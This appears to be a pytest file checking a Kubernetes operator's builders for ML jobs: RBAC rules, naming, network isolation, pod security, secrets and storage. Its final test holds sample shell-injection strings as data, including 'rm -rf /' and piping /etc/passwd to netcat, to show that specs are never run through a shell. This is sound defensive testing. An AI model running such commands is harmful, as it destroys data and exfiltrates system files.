"""The operator's pure builders (resource -> ConfigMap, Service, Jobs) and its RBAC data, without any API
server: every rendered object is checked with kubernetes-validate --strict (1.29 and the newest schema),
the kubernetes client's models and the API server's naming rules (tests/support/k8s_validate.py)."""

from __future__ import annotations

import copy
import re
from pathlib import Path
from typing import Any

import manifests
import pytest
from k8s_validate import VERSIONS, assert_valid, model_class, problems, restricted_problems
from manifests import BUILT_CORPUS, BUILT_PRETRAIN
from repo import ROOT

from lmforge_jobs.data.stages import stages
from lmforge_jobs.entry import ConfigError, load_job_resource
from lmforge_jobs.kinds import KINDS
from lmforge_jobs.manifest import load_resources, load_yaml_documents, parse_resource
from lmforge_jobs.resolve import expected_outputs, resolve
from lmforge_jobs.secrets import env_name, read_secret, secret_env_name
from lmforge_jobs.spec import EXIT_CONFIG_ERROR, EXIT_STOPPED, SecretRef
from lmforge_operator import builders, rbac
from lmforge_operator.builders import BuildError

UID = "6f1c1d6e-0000-4000-8000-000000000001"
IMAGE = "registry.example/lmforge-jobs:1.2.3"
SHELL_ARGV0 = {"sh", "bash", "/bin/sh", "/bin/bash", "dash", "zsh", "ash"}


# ------------------------------------------------------------------------------------------------ helpers
def resource(doc: dict[str, Any]) -> Any:
    res, found = parse_resource(doc)
    assert not found, found
    return res


def owner_of(res: Any) -> dict[str, Any]:
    return builders.owner_reference(
        {"apiVersion": res.api_version, "kind": res.kind, "metadata": {"name": res.name, "uid": UID}}
    )


def resolved(res: Any, outputs: dict[tuple[str, str], dict[str, str]] | None = None) -> dict[str, Any]:
    """The resolved manifest dict the operator puts into the ConfigMap."""
    out = resolve(res, outputs or {}, f"pvc://lmforge-storage/{res.kind.lower()}/{res.name}")
    return out.model_dump(by_alias=True, exclude_none=True, mode="json")


def cluster_resources() -> list[Any]:
    found, problems_ = load_resources([ROOT / "examples" / "cluster"])
    assert not problems_, problems_
    return found


def cluster_outputs(resources: list[Any]) -> dict[tuple[str, str], dict[str, str]]:
    return {
        (r.kind, r.name): expected_outputs(r.kind, r.spec.output or f"pvc://lmforge-storage/{r.name}", r.spec)
        for r in resources
    }


def container(job: dict[str, Any]) -> dict[str, Any]:
    (main,) = job["spec"]["template"]["spec"]["containers"]
    return main


def env_of(job: dict[str, Any]) -> dict[str, Any]:
    return {e["name"]: e for e in container(job)["env"]}


def argv(job: dict[str, Any]) -> list[str]:
    c = container(job)
    return [*c["command"], *c["args"]]


def pretrain_doc(**spec: Any) -> dict[str, Any]:
    return manifests.resource("PretrainRun", "gpt", {**copy.deepcopy(BUILT_PRETRAIN), **spec})


def corpus_doc(**spec: Any) -> dict[str, Any]:
    return manifests.resource("Corpus", "web", {**copy.deepcopy(BUILT_CORPUS), **spec})


def evaluation_doc(**spec: Any) -> dict[str, Any]:
    base: dict[str, Any] = {
        "model": {"path": "s3://bucket/runs/gpt/model"},
        "perplexity": {"data": "s3://bucket/heldout"},
        "output": "s3://bucket/evals/gpt",
    }
    base.update(spec)
    return {
        "apiVersion": "lmforge.io/v1alpha1",
        "kind": "Evaluation",
        "metadata": {"name": "gpt-eval"},
        "spec": base,
    }


# ------------------------------------------------------------------------------------------------- RBAC
def test_rbac_rules_are_explicit_and_never_touch_secrets() -> None:
    for rule in rbac.RULES + rbac.LEADER_RULES:
        assert set(rule) == {"apiGroups", "resources", "verbs"}
        for key in ("apiGroups", "resources", "verbs"):
            assert rule[key], rule
            assert all("*" not in item for item in rule[key]), f"wildcard in {rule}"
        assert not any(r.split("/")[0] == "secrets" for r in rule["resources"]), rule
        assert set(rule["verbs"]) <= {"get", "list", "watch", "create", "update", "patch", "delete"}
        policy_rule = model_class("rbac.authorization.k8s.io/v1", "PolicyRule")
        assert policy_rule is not None
        policy_rule.model_validate(rule)  # the client's model of a PolicyRule
    role = {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "Role",
        "metadata": {"name": "lmforge-operator", "namespace": "ml"},
        "rules": rbac.RULES,
    }
    cluster_role = {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "ClusterRole",
        "metadata": {"name": "lmforge-operator"},
        "rules": rbac.RULES,
    }
    assert_valid(role)
    assert_valid(cluster_role)
    # nothing cluster-scoped: kopf's scanning is off, so neither CRDs nor namespaces are read
    assert not {r for rule in rbac.RULES for r in rule["resources"]} & {
        "customresourcedefinitions",
        "namespaces",
    }


def test_rbac_allows_what_the_operator_does_and_nothing_more() -> None:
    for plural in rbac.PLURALS:
        for verb in ("get", "list", "watch"):
            assert rbac.allows("lmforge.io", plural, verb)
        assert rbac.allows("lmforge.io", f"{plural}/status", "patch")
        for verb in ("create", "patch", "update", "delete"):  # users write them; kopf adds no finalizer
            trial = plural in rbac.TRIAL_PLURALS and verb in ("create", "delete")  # a Sweep's trials
            assert rbac.allows("lmforge.io", plural, verb) == trial, (plural, verb)
        assert not rbac.allows("lmforge.io", f"{plural}/status", "update")
        # blockOwnerDeletion on the children needs it under OwnerReferencesPermissionEnforcement
        assert rbac.allows("lmforge.io", f"{plural}/finalizers", "update")
    for group, plural in (("batch", "jobs"), ("", "configmaps"), ("", "services")):
        assert rbac.allows(group, plural, "create") and not rbac.allows(group, plural, "update")
        # only the voting page's Service (arena.human) is patched when its spec changes
        assert rbac.allows(group, plural, "patch") == (plural == "services")
    assert rbac.allows("batch", "jobs", "get") and rbac.allows("batch", "jobs", "watch")
    # a child found under its name is read and, when an earlier resource of the same name owns it, deleted
    for group, plural in (("", "configmaps"), ("", "services"), ("networking.k8s.io", "networkpolicies")):
        assert rbac.allows(group, plural, "get") and rbac.allows(group, plural, "delete")
        assert not rbac.allows(group, plural, "list") and not rbac.allows(group, plural, "watch")
    assert rbac.allows("", "events", "create")
    assert not rbac.allows("", "events", "patch") and not rbac.allows("events.k8s.io", "events", "create")
    assert rbac.allows("", "pods", "list")
    assert not rbac.allows("", "pods", "create")
    assert not rbac.allows("", "secrets", "get")
    assert not rbac.allows("", "secrets", "list", namespaced=False)
    assert not rbac.allows("apiextensions.k8s.io", "customresourcedefinitions", "list", namespaced=False)
    assert not rbac.allows("", "namespaces", "list", namespaced=False)
    assert rbac.verb_for("GET", named=False) == "list"
    assert rbac.verb_for("GET", named=False, watch=True) == "watch"
    assert rbac.verb_for("GET", named=True) == "get"
    assert rbac.verb_for("post", named=False) == "create"
    assert rbac.verb_for("PATCH", named=True) == "patch"
    assert rbac.verb_for("DELETE", named=False) == "deletecollection"


# ------------------------------------------------------------------------------------------------ naming
def test_child_names_are_deterministic_dns_labels() -> None:
    assert builders.child_name("gpt", "pretrain") == "gpt-pretrain"
    long = "a" * 40
    a = builders.child_name(long, "minhash-clusters-" + "x" * 20)
    b = builders.child_name(long, "minhash-clusters-" + "y" * 20)
    assert a == builders.child_name(long, "minhash-clusters-" + "x" * 20)
    assert a != b
    for name in (a, b, builders.child_name("Web_EN", "Stage.1"), builders.child_name("9lives", "x")):
        assert len(name) <= 63
        assert re.fullmatch(r"[a-z]([-a-z0-9]*[a-z0-9])?", name), name
    assert len(builders.child_name(long, "z" * 50, max_length=40)) == 40


def test_job_names_leave_room_for_pod_hostnames() -> None:
    doc = corpus_doc(parallelism={"tasks": 12000, "workers": 100})
    doc["metadata"]["name"] = "c" * 40
    res = resource(doc)
    for stage in stages(res.spec):
        job = builders.build_job(res, owner_of(res), image=IMAGE, stage=stage)
        assert len(f"{job['metadata']['name']}-{stage.tasks - 1}") <= 63
        assert_valid(job)


def test_owner_reference() -> None:
    body = {
        "apiVersion": "lmforge.io/v1alpha1",
        "kind": "PretrainRun",
        "metadata": {"name": "gpt", "uid": UID},
    }
    assert builders.owner_reference(body) == {
        "apiVersion": "lmforge.io/v1alpha1",
        "kind": "PretrainRun",
        "name": "gpt",
        "uid": UID,
        "controller": True,
        "blockOwnerDeletion": True,
    }
    with pytest.raises(ValueError, match="uid"):
        builders.owner_reference({**body, "metadata": {"name": "gpt"}})
    # Setting blockOwnerDeletion is refused by OwnerReferencesPermissionEnforcement unless the operator may
    # update the owner's finalizers: granted for every kind that owns children.
    for kind, plural in zip(
        ("Corpus", "PretrainRun", "AlignmentRun", "Evaluation", "Sweep", "ScalingStudy"),
        rbac.PLURALS,
        strict=True,
    ):
        ref = builders.owner_reference({**body, "kind": kind})
        assert ref["blockOwnerDeletion"] and rbac.allows("lmforge.io", f"{plural}/finalizers", "update")


# ----------------------------------------------------------------------------------------- isolation
def test_network_policy_admits_only_the_resources_own_pods_and_the_operator() -> None:
    res = resource(pretrain_doc())
    owner = owner_of(res)
    objs = builders.children(res, pretrain_doc(), owner, image=IMAGE)
    assert [o["kind"] for o in objs] == ["ConfigMap", "Service", "NetworkPolicy", "Job"]  # before the Job
    policy = objs[2]
    assert policy["metadata"]["ownerReferences"] == [owner]
    assert_valid(policy)
    pods = objs[3]["spec"]["template"]["metadata"]["labels"]
    spec = policy["spec"]
    selected = spec["podSelector"]["matchLabels"]
    assert selected.items() <= pods.items() and spec["policyTypes"] == ["Ingress"]
    own, metrics = spec["ingress"]
    # the resource's own pods: every port (rendezvous 29400 and the ranks' NCCL/Gloo connections)
    assert own == {"from": [{"podSelector": {"matchLabels": selected}}]}
    # the operator's pods, in any namespace by default: the metrics port only
    assert metrics["ports"] == [{"port": builders.METRICS_PORT, "protocol": "TCP"}]
    assert metrics["from"] == [
        {"namespaceSelector": {}, "podSelector": {"matchLabels": builders.OPERATOR_LABELS}}
    ]
    # another resource's pods are not selected by the "own" peer
    other = resource({**pretrain_doc(), "metadata": {"name": "other"}})
    assert not builders.selector(other).items() <= selected.items()

    scoped = builders.Isolation(
        operator_namespace="lmforge-system",
        operator_labels={"app.kubernetes.io/instance": "lmf", "app.kubernetes.io/component": "operator"},
        metrics_from=({"namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "monitoring"}}},),
    )
    policy = builders.build_network_policy(res, owner, scoped)
    assert_valid(policy)
    peers = policy["spec"]["ingress"][1]["from"]
    assert peers[0]["namespaceSelector"] == {"matchLabels": {"kubernetes.io/metadata.name": "lmforge-system"}}
    assert peers[0]["podSelector"]["matchLabels"]["app.kubernetes.io/instance"] == "lmf"
    assert peers[1] == dict(scoped.metrics_from[0])

    # Off (no NetworkPolicy support), and never for kinds without torchrun.
    kinds = [o["kind"] for o in builders.children(res, pretrain_doc(), owner, image=IMAGE, isolation=None)]
    assert kinds == ["ConfigMap", "Service", "Job"]
    single = resource(evaluation_doc())
    assert "NetworkPolicy" not in [
        o["kind"] for o in builders.children(single, evaluation_doc(), None, image=IMAGE)
    ]
    assert rbac.allows("networking.k8s.io", "networkpolicies", "create")


# --------------------------------------------------------------------------------- every kind validates
def _all_children() -> list[tuple[str, dict[str, Any]]]:
    resources = cluster_resources()
    outputs = cluster_outputs(resources)
    rendered: list[tuple[str, dict[str, Any]]] = []
    for res in resources:
        doc = resolved(res, outputs)
        if res.kind == "Corpus":
            for stage in stages(res.spec):
                for obj in builders.children(res, doc, owner_of(res), image=IMAGE, stage=stage):
                    rendered.append((f"{res.ref}:{stage.name}", obj))
        else:
            rendered += [(res.ref, obj) for obj in builders.children(res, doc, owner_of(res), image=IMAGE)]
    return rendered


def test_every_kind_and_corpus_stage_renders_valid_objects() -> None:
    rendered = _all_children()
    kinds = {ref.split("/")[0] for ref, _ in rendered}
    assert kinds == {"Corpus", "PretrainRun", "AlignmentRun", "Evaluation"}
    assert {obj["kind"] for _, obj in rendered} == {"ConfigMap", "Service", "NetworkPolicy", "Job"}
    assert any(ref.endswith(":minhash-buckets") for ref, _ in rendered)
    for ref, obj in rendered:
        found = problems(obj)
        assert found == [], f"{ref} {obj['kind']}: {found}"
        labels = obj["metadata"]["labels"]
        assert labels["app.kubernetes.io/part-of"] == "lmforge"
        assert labels["app.kubernetes.io/managed-by"] == "lmforge-operator"
        assert labels["lmforge.io/name"] == ref.split("/")[1].split(":")[0]
        assert obj["metadata"]["ownerReferences"][0]["uid"] == UID
        if obj["kind"] == "Job":
            assert restricted_problems(obj["spec"]["template"]["spec"]) == [], ref
    assert VERSIONS[0] == "1.29.0"


def test_validator_catches_what_each_layer_checks() -> None:
    res = resource(pretrain_doc())
    job = builders.build_job(res, owner_of(res), image=IMAGE)
    assert problems(job) == []
    unknown_field = copy.deepcopy(job)
    unknown_field["spec"]["template"]["spec"]["containers"][0]["shell"] = "bash"
    assert any("strict" in p for p in problems(unknown_field))
    assert any("client model" in p for p in problems(unknown_field))
    wrong_type = copy.deepcopy(job)
    wrong_type["spec"]["completions"] = "two"
    assert any("client model" in p and "completions" in p for p in problems(wrong_type))
    dangling = copy.deepcopy(job)
    dangling["spec"]["template"]["spec"]["volumes"].pop()
    assert any("names no volume" in p for p in problems(dangling))
    bad_name = copy.deepcopy(job)
    bad_name["metadata"]["name"] = "Bad_Name"
    assert any("metadata.name" in p for p in problems(bad_name))
    bad_label = copy.deepcopy(job)
    bad_label["metadata"]["labels"]["lmforge.io/name"] = "-x-"
    assert any("label value" in p for p in problems(bad_label))
    # Pod Security: the restricted profile
    pod = job["spec"]["template"]["spec"]
    assert restricted_problems(pod) == []
    loose = copy.deepcopy(pod)
    loose["containers"][0]["securityContext"]["allowPrivilegeEscalation"] = True
    loose["containers"][0]["securityContext"]["capabilities"] = {"add": ["SYS_ADMIN"]}
    loose["volumes"].append({"name": "host", "hostPath": {"path": "/"}})
    loose["securityContext"].pop("seccompProfile")
    loose["containers"][0]["securityContext"].pop("seccompProfile")
    found = " ".join(restricted_problems(loose))
    for word in (
        "allowPrivilegeEscalation",
        "capabilities.drop",
        "capabilities.add",
        "hostPath",
        "seccompProfile",
    ):
        assert word in found


# ----------------------------------------------------------------------------------------- training pods
def test_training_job_runs_torchrun_on_every_node() -> None:
    res = resource(pretrain_doc(queue="team-a", resources={"cpu": "16", "memory": "64Gi"}))
    owner = owner_of(res)
    objs = builders.children(res, resolved(res), owner, image=IMAGE)
    assert [o["kind"] for o in objs] == ["ConfigMap", "Service", "NetworkPolicy", "Job"]
    cm, svc, _, job = objs
    name, service = job["metadata"]["name"], svc["metadata"]["name"]
    assert name == "gpt-pretrain"
    spec = job["spec"]
    assert spec["completionMode"] == "Indexed"
    assert spec["completions"] == spec["parallelism"] == 2
    pod = spec["template"]["spec"]
    assert pod["subdomain"] == service
    assert svc["spec"]["clusterIP"] == "None"
    assert svc["spec"]["publishNotReadyAddresses"] is True
    assert svc["spec"]["selector"].items() <= spec["template"]["metadata"]["labels"].items()
    assert argv(job) == [
        "python",
        "-m",
        "lmforge_jobs.launch",
        "--nnodes=2",
        "--nproc-per-node=4",
        "--rdzv-backend=c10d",
        f"--rdzv-endpoint={name}-0.{service}:29400",
        f"--rdzv-id={name}",
        f"--max-restarts={builders.TORCHRUN_MAX_RESTARTS}",
        "--shutdown-timeout=580",
        "-m",
        "lmforge_jobs.pretrain",
        "--manifest",
        "/etc/lmforge/spec.yaml",
    ]
    env = env_of(job)
    assert env["PET_NODE_RANK"]["valueFrom"]["fieldRef"]["fieldPath"] == (
        "metadata.annotations['batch.kubernetes.io/job-completion-index']"
    )
    assert env["LMFORGE_METRICS_PORT"]["value"] == "9400"
    assert env["LMFORGE_TERMINATION_LOG"]["value"] == "/dev/termination-log"
    main = container(job)
    assert {"name": "metrics", "containerPort": 9400, "protocol": "TCP"} in main["ports"]
    assert main["resources"]["limits"] == {"cpu": "16", "memory": "64Gi", "nvidia.com/gpu": "4"}
    assert main["resources"]["requests"] == main["resources"]["limits"]
    assert main["terminationMessagePolicy"] == "FallbackToLogsOnError"
    # /dev/shm in memory, the spec read-only from the ConfigMap
    volumes = {v["name"]: v for v in pod["volumes"]}
    mounts = {m["mountPath"]: m for m in main["volumeMounts"]}
    assert volumes[mounts["/dev/shm"]["name"]]["emptyDir"] == {"medium": "Memory"}
    assert volumes[mounts["/etc/lmforge"]["name"]]["configMap"]["name"] == cm["metadata"]["name"]
    assert mounts["/etc/lmforge"]["readOnly"] is True
    # restricted Pod Security Standard
    assert pod["automountServiceAccountToken"] is False
    assert pod["securityContext"]["runAsNonRoot"] is True
    assert pod["securityContext"]["runAsUser"] == 10001
    assert pod["securityContext"]["seccompProfile"] == {"type": "RuntimeDefault"}
    sc = main["securityContext"]
    assert sc["allowPrivilegeEscalation"] is False
    assert sc["capabilities"] == {"drop": ["ALL"]}
    assert sc["runAsNonRoot"] is True
    assert not any(k in pod for k in ("hostNetwork", "hostPID", "hostIPC"))
    assert all("hostPath" not in v for v in pod["volumes"])
    # failure handling
    rules = spec["podFailurePolicy"]["rules"]
    assert {"action": "Ignore", "onPodConditions": [{"type": "DisruptionTarget", "status": "True"}]} in rules
    assert {
        "action": "FailJob",
        "onExitCodes": {"containerName": main["name"], "operator": "In", "values": [EXIT_CONFIG_ERROR]},
    } in rules
    # a rank stopped by a signal (preemption without a DisruptionTarget condition) is replaced, not counted
    assert {
        "action": "Ignore",
        "onExitCodes": {"containerName": main["name"], "operator": "In", "values": [EXIT_STOPPED]},
    } in rules
    assert pod["restartPolicy"] == "Never"
    assert spec["podReplacementPolicy"] == "Failed"
    assert spec["backoffLimit"] >= 1
    assert pod["terminationGracePeriodSeconds"] >= 600
    assert "ttlSecondsAfterFinished" not in spec
    # Kueue
    assert job["metadata"]["labels"]["kueue.x-k8s.io/queue-name"] == "team-a"
    assert spec["suspend"] is True
    assert pod["tolerations"] == [{"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}]
    for obj in objs:
        assert_valid(obj)


def test_no_queue_means_not_suspended_and_cpu_training_asks_no_gpu() -> None:
    res = resource(
        pretrain_doc(
            parallelism={"nodes": 1, "gpusPerNode": 0},
            batch={"globalTokens": 4096, "microBatchSize": 4},
        )
    )
    job = builders.build_job(res, owner_of(res), image=IMAGE)
    assert "suspend" not in job["spec"]
    assert "kueue.x-k8s.io/queue-name" not in job["metadata"]["labels"]
    assert "--nproc-per-node=1" in argv(job)
    assert "nvidia.com/gpu" not in (container(job).get("resources") or {}).get("limits", {})
    assert "tolerations" not in job["spec"]["template"]["spec"]
    assert_valid(job)


def test_alignment_run_uses_the_align_module_and_resources_gpu() -> None:
    doc = {
        "apiVersion": "lmforge.io/v1alpha1",
        "kind": "AlignmentRun",
        "metadata": {"name": "gpt-dpo", "namespace": "ml"},
        "spec": {
            "base": {"path": "s3://bucket/model"},
            "method": "dpo",
            "dataset": {"path": "s3://bucket/prefs.jsonl", "format": "preference"},
            "parallelism": {"nodes": 3, "gpusPerNode": 8},
            "resources": {"gpu": 8},
        },
    }
    res = resource(doc)
    objs = builders.children(res, resolved(res), owner_of(res), image=IMAGE)
    job = objs[-1]
    assert all(o["metadata"]["namespace"] == "ml" for o in objs)
    assert argv(job)[:5] == ["python", "-m", "lmforge_jobs.launch", "--nnodes=3", "--nproc-per-node=8"]
    assert argv(job)[-3] == "lmforge_jobs.align"
    assert job["spec"]["completions"] == job["spec"]["parallelism"] == 3
    assert container(job)["resources"]["limits"]["nvidia.com/gpu"] == "8"
    for obj in objs:
        assert_valid(obj)


def test_evaluation_single_process_vs_multi_gpu() -> None:
    single = resource(evaluation_doc(parallelism={"nodes": 1, "gpusPerNode": 1}))
    objs = builders.children(single, resolved(single), owner_of(single), image=IMAGE)
    assert [o["kind"] for o in objs] == ["ConfigMap", "Job"]
    job = objs[-1]
    assert argv(job) == ["python", "-m", "lmforge_jobs.evaluate", "--manifest", "/etc/lmforge/spec.yaml"]
    assert "subdomain" not in job["spec"]["template"]["spec"]
    assert "PET_NODE_RANK" not in env_of(job)

    multi = resource(evaluation_doc(parallelism={"nodes": 1, "gpusPerNode": 4}))
    objs = builders.children(multi, resolved(multi), owner_of(multi), image=IMAGE)
    assert [o["kind"] for o in objs] == ["ConfigMap", "Service", "NetworkPolicy", "Job"]
    assert argv(objs[-1])[:5] == ["python", "-m", "lmforge_jobs.launch", "--nnodes=1", "--nproc-per-node=4"]
    assert objs[-1]["spec"]["template"]["spec"]["subdomain"] == objs[1]["metadata"]["name"]
    for obj in objs:
        assert_valid(obj)


def test_rounds_name_reruns() -> None:
    res = resource(evaluation_doc())
    first = builders.build_job(res, owner_of(res), image=IMAGE)
    again = builders.build_job(res, owner_of(res), image=IMAGE)
    assert first == again  # deterministic: create-if-absent finds the same name after a restart
    rerun = builders.build_job(res, owner_of(res), image=IMAGE, round=2)
    assert first["metadata"]["name"] == "gpt-eval-evaluate"
    assert rerun["metadata"]["name"] == "gpt-eval-evaluate-2"
    assert rerun["metadata"]["annotations"]["lmforge.io/run"] == "2"


# ------------------------------------------------------------------------------------------------ Corpus
def test_corpus_runs_one_indexed_job_per_stage() -> None:
    res = resource(corpus_doc())
    owner = owner_of(res)
    doc = resolved(res)
    names = set()
    for stage in stages(res.spec):
        objs = builders.children(res, doc, owner, image=IMAGE, stage=stage)
        assert [o["kind"] for o in objs] == ["ConfigMap", "Job"]  # no rendezvous: no Service
        job = objs[-1]
        spec = job["spec"]
        assert job["metadata"]["name"] == f"web-{stage.name}"
        names.add(job["metadata"]["name"])
        assert job["metadata"]["labels"]["lmforge.io/stage"] == stage.name
        assert spec["template"]["metadata"]["labels"]["lmforge.io/stage"] == stage.name
        assert spec["completionMode"] == "Indexed"
        assert spec["completions"] == stage.tasks
        assert spec["parallelism"] == min(3, stage.tasks)
        assert spec["backoffLimitPerIndex"] >= 1
        assert spec["maxFailedIndexes"] == 0
        assert "backoffLimit" not in spec
        assert spec["podReplacementPolicy"] == "Failed"
        assert argv(job) == [
            "python",
            "-m",
            "lmforge_jobs.data",
            "--manifest",
            "/etc/lmforge/spec.yaml",
            "--stage",
            stage.name,
        ]
        assert "subdomain" not in spec["template"]["spec"]
        assert container(job)["resources"]["limits"] == {"cpu": "2", "memory": "4Gi"}
        for obj in objs:
            assert_valid(obj)
    assert len(names) == len(stages(res.spec))
    with pytest.raises(ValueError, match="stage"):
        builders.build_job(res, owner, image=IMAGE)


# ------------------------------------------------------------------------------------------------ secrets
def test_every_secret_reference_becomes_a_secret_key_ref_env_var() -> None:
    resources = {r.ref: r for r in cluster_resources()}
    outputs = cluster_outputs(list(resources.values()))
    corpus = resources["Corpus/web-en"]
    pretrain = resources["PretrainRun/llama-1b"]
    evaluation = next(r for r in resources.values() if r.kind == "Evaluation")
    cases = [
        (corpus, stages(corpus.spec)[0], corpus.spec.sources[2].huggingface.token),
        (pretrain, None, pretrain.spec.export.push.token),
        (evaluation, None, evaluation.spec.judge.model.endpoint.api_key),
    ]
    for res, stage, ref in cases:
        job = builders.build_job(
            res, owner_of(res), image=IMAGE, stage=stage, resolved_doc=resolved(res, outputs)
        )
        var = env_of(job)[env_name(ref)]
        assert var["valueFrom"] == {
            "secretKeyRef": {"name": ref.secret_key_ref.name, "key": ref.secret_key_ref.key}
        }
        assert "value" not in var
        assert not any(
            v["name"] == "secrets" or "secret" in v for v in job["spec"]["template"]["spec"]["volumes"]
        )
    assert secret_env_name("hf-token", "token") == "LMFORGE_SECRET_HF_TOKEN_TOKEN"
    assert secret_env_name("judge", "api.key") == "LMFORGE_SECRET_JUDGE_API_KEY"


def test_secret_refs_that_would_share_a_variable_are_refused() -> None:
    doc = pretrain_doc(
        model={
            "layers": 2,
            "hidden": 64,
            "heads": 4,
            "seqLen": 64,
            "vocabSize": 512,
            "init": {"huggingface": "org/m", "token": {"secretKeyRef": {"name": "hf", "key": "a-b"}}},
        },
        export={"push": {"repo": "org/out", "token": {"secretKeyRef": {"name": "hf", "key": "a.b"}}}},
    )
    res = resource(doc)
    with pytest.raises(BuildError) as err:
        builders.build_job(res, owner_of(res), image=IMAGE)
    assert err.value.field == "export.push.token"
    # the same key twice is one variable
    doc["spec"]["export"]["push"]["token"]["secretKeyRef"]["key"] = "a-b"
    res = resource(doc)
    job = builders.build_job(res, owner_of(res), image=IMAGE)
    assert [e["name"] for e in container(job)["env"]].count("LMFORGE_SECRET_HF_A_B") == 1


def test_jobs_read_secrets_from_env_then_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    ref = SecretRef.model_validate({"secretKeyRef": {"name": "judge", "key": "key"}})
    monkeypatch.setenv("LMFORGE_SECRETS_DIR", str(tmp_path))
    monkeypatch.delenv("LMFORGE_SECRET_JUDGE_KEY", raising=False)
    with pytest.raises(ConfigError) as err:
        read_secret(ref, "judge.model.endpoint.apiKey")
    assert err.value.field == "judge.model.endpoint.apiKey"
    assert "LMFORGE_SECRET_JUDGE_KEY" in err.value.message
    (tmp_path / "judge").mkdir()
    (tmp_path / "judge" / "key").write_text("from-file\n")
    assert read_secret(ref, "x") == "from-file"
    monkeypatch.setenv("LMFORGE_SECRET_JUDGE_KEY", "from-env")
    assert read_secret(ref, "x") == "from-env"


# ----------------------------------------------------------------------------------------------- storage
def test_localize_mounts_pvc_uris_and_leaves_other_uris() -> None:
    doc = corpus_doc(
        sources=[
            {"jsonl": {"paths": ["pvc://raw-data/books/*.jsonl", "s3://b/x.jsonl", "pvc://raw-data"]}},
            {"parquet": {"paths": ["gs://b/p/*.parquet", "hf://datasets/org/name"]}},
        ],
        filters=[{"regex": {"pattern": "pvc://not-a-uri/.*"}}],
        output="pvc://lmforge-storage/corpora/web",
    )
    res = resource(doc)
    local, volumes, mounts = builders.localize(resolved(res))
    paths = local["spec"]["sources"][0]["jsonl"]["paths"]
    assert paths == ["/mnt/lmforge/pvc/raw-data/books/*.jsonl", "s3://b/x.jsonl", "/mnt/lmforge/pvc/raw-data"]
    assert local["spec"]["sources"][1]["parquet"]["paths"] == ["gs://b/p/*.parquet", "hf://datasets/org/name"]
    assert local["spec"]["filters"][0]["regex"]["pattern"] == "pvc://not-a-uri/.*"
    assert local["spec"]["output"] == "/mnt/lmforge/pvc/lmforge-storage/corpora/web"
    by_claim = {v["persistentVolumeClaim"]["claimName"]: v for v in volumes}
    assert set(by_claim) == {"raw-data", "lmforge-storage"}
    assert by_claim["raw-data"]["persistentVolumeClaim"]["readOnly"] is True
    assert "readOnly" not in by_claim["lmforge-storage"]["persistentVolumeClaim"]
    mount_by_name = {m["name"]: m for m in mounts}
    assert (
        mount_by_name[by_claim["lmforge-storage"]["name"]]["mountPath"] == "/mnt/lmforge/pvc/lmforge-storage"
    )
    assert mount_by_name[by_claim["raw-data"]["name"]]["readOnly"] is True

    # the Job mounts them and the ConfigMap holds the local paths
    stage = stages(res.spec)[0]
    cm, job = builders.children(res, resolved(res), owner_of(res), image=IMAGE, stage=stage)
    pod_volumes = {v["name"] for v in job["spec"]["template"]["spec"]["volumes"]}
    assert {v["name"] for v in volumes} <= pod_volumes
    assert "pvc://" not in cm["data"]["spec.yaml"].replace("pvc://not-a-uri", "")
    assert_valid(job)
    assert_valid(cm)

    bad = corpus_doc(sources=[{"jsonl": {"paths": ["s3://ok", "pvc://Bad_Claim/x"]}}])
    _, found = parse_resource(bad)  # the spec refuses it first ...
    assert [p.field for p in found] == ["spec.sources[0].jsonl.paths[1]"]
    doc = resolved(resource(corpus_doc(sources=[{"jsonl": {"paths": ["s3://ok", "pvc://ok/x"]}}])))
    doc["spec"]["sources"][0]["jsonl"]["paths"][1] = "pvc://Bad_Claim/x"
    with pytest.raises(BuildError) as err:  # ... and the builder still refuses what reaches it
        builders.localize(doc)
    assert err.value.field == "sources[0].jsonl.paths[1]"


def test_resolved_references_become_mounts_and_the_job_accepts_the_configmap(tmp_path: Path) -> None:
    corpus = resource(corpus_doc(output="pvc://lmforge-storage/corpora/web"))
    pretrain_manifest = pretrain_doc()
    del pretrain_manifest["spec"]["data"]
    pretrain_manifest["spec"]["corpus"] = {"name": "web"}
    pretrain = resource(pretrain_manifest)
    outputs = {("Corpus", "web"): expected_outputs("Corpus", corpus.spec.output)}
    doc = resolved(pretrain, outputs)
    cm, _, _, job = builders.children(pretrain, doc, owner_of(pretrain), image=IMAGE)
    claims = [
        v["persistentVolumeClaim"]["claimName"]
        for v in job["spec"]["template"]["spec"]["volumes"]
        if "persistentVolumeClaim" in v
    ]
    assert claims == ["lmforge-storage"]
    manifest = tmp_path / "spec.yaml"
    manifest.write_text(cm["data"]["spec.yaml"])
    loaded = load_job_resource(str(manifest), "PretrainRun")  # what the job does with --manifest
    assert loaded.spec.data.tokens == "/mnt/lmforge/pvc/lmforge-storage/corpora/web/tokens/train"
    assert loaded.spec.output == "s3://bucket/runs/gpt"


# ------------------------------------------------------------------------------------------ no shell, ever
NASTY = [
    "$(rm -rf / --no-preserve-root)",
    "`shutdown -h now`; echo pwned && cat /etc/passwd | nc evil 1 > /tmp/x < /dev/null &",
    "'single' \"double\" \\backslash ${HOME} $PATH *.? [a-z] ~ # comment ! history",
    "1e5",
    "yes",
    "null",
    "0x1F",
    "- item",
    ": colon",
    "{flow: map}",
    "tab\there",
    "ünïcødé ✓",
    "%TAG",
    "@at",
    "=equals",
]


def test_spec_strings_full_of_shell_metacharacters_arrive_verbatim() -> None:
    words = list(NASTY)
    doc = corpus_doc(
        sources=[
            {
                "jsonl": {
                    "paths": ["s3://b/$(id);`id`|&&>x<'\"*.jsonl", "/data/${IFS}a;b"],
                    "textKey": NASTY[1],
                    "idKey": NASTY[2],
                }
            }
        ],
        filters=[
            {"url": {"extraBannedWords": words}},
            {"regex": {"pattern": r"\$\(rm -rf /\); `reboot` && echo '\"x\"' | tee > /etc/passwd"}},
        ],
    )
    res = resource(doc)
    stage = stages(res.spec)[0]
    resolved_doc = resolved(res)
    cm, job = builders.children(res, resolved_doc, owner_of(res), image=IMAGE, stage=stage)
    text = cm["data"]["spec.yaml"]
    (loaded,) = load_yaml_documents(text)
    assert loaded["spec"] == resolved_doc["spec"]  # every string exactly as written
    assert loaded["spec"]["filters"][0]["url"]["extraBannedWords"] == NASTY
    reparsed = resource(loaded)  # and still a valid Corpus for the job
    assert reparsed.spec.sources[0].jsonl.text_key == NASTY[1]
    # the container runs an argument list: no shell, no spec value, no $(VAR) expansion
